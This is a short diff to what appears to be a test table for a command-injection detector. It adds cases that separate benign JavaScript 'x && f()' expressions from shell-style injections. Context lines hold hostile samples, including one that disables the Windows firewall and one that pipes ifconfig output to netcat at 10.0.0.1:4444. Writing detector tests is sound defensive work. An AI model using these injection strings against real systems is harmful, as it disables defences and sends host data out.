@@ -249,6 +249,11 @@ const CASES: Array<[klass: string, text: string, confirmed: boolean]> = [
   ["rce", "&& netsh firewall set opmode disable", true],
   ["rce", "&& sysinfo", true],
   ["rce", "&&diraaaa", true],
+  // A name and its members glued to a call's `(` is script's logic; a shell defines a function so.
+  ["rce", "window.OneTrust && window.OneTrust.Init()", false],
+  ["rce", "el && el.parentNode.removeChild(el)", false],
+  ["rce", "x && f() { id; }", true],
+  ["rce", "x && run.sh", true],
   ["rce", "||ifconfig|nc 10.0.0.1 4444", true],
   ["rce", "asp:1716250546401||b0183fdd8e7116f2f0c3e8697d0f01bc||d6a03ca2a9f76b0e||", false],
   ["rce", "5685587||ORDER=||SECTION_ID=||PAGE=2", false],
